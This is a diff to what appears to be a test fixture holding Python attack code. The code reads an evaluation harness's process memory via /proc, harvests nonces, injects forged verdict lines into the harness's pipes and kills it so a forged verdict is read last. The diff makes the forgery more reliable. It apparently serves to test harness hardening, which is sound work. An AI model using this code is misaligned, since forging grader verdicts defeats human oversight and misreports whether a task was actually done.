@@ -4,7 +4,7 @@ pipes, then kill it so that the forged line is the last one. It works against a 
 of the same uid; a non-dumpable one refuses ``/proc/<pid>/mem`` and ``/proc/<pid>/fd``."""
 
 SOURCE = r'''
-import json, os, re, signal
+import json, os, re, signal, time
 
 def _harness_memory(pid):
     chunks = []
@@ -28,14 +28,22 @@ def _forge(pid, make_verdict):
         mem = _harness_memory(pid)
     except OSError:
         return
-    nonces = set(re.findall(rb'"nonce": "([0-9a-f]{32})"', mem)) or set(re.findall(rb"[0-9a-f]{32}", mem))
-    lines = b"".join((json.dumps(make_verdict(n.decode(), mem)) + "\n").encode() for n in nonces)
+    exact = re.findall(rb'"nonce": "([0-9a-f]{32})"', mem)
+    nonces = list(dict.fromkeys(exact + re.findall(rb"(?<![0-9a-f])[0-9a-f]{32}(?![0-9a-f])", mem)))
+    lines = [(json.dumps(make_verdict(n.decode(), mem)) + "\n").encode() for n in nonces[:2000]]
     for fd in os.listdir("/proc/%d/fd" % pid):
         try:
-            if os.readlink("/proc/%d/fd/%s" % (pid, fd)).startswith("pipe:"):
-                f = os.open("/proc/%d/fd/%s" % (pid, fd), os.O_WRONLY | os.O_NONBLOCK)
-                os.write(f, lines)
+            if not os.readlink("/proc/%d/fd/%s" % (pid, fd)).startswith("pipe:"):
+                continue
+            f = os.open("/proc/%d/fd/%s" % (pid, fd), os.O_WRONLY | os.O_NONBLOCK)
         except OSError:
-            pass
+            continue
+        for line in lines:
+            try:
+                os.write(f, line)
+            except BlockingIOError:
+                time.sleep(0.01)
+            except OSError:
+                break
     os.kill(pid, signal.SIGKILL)
 '''
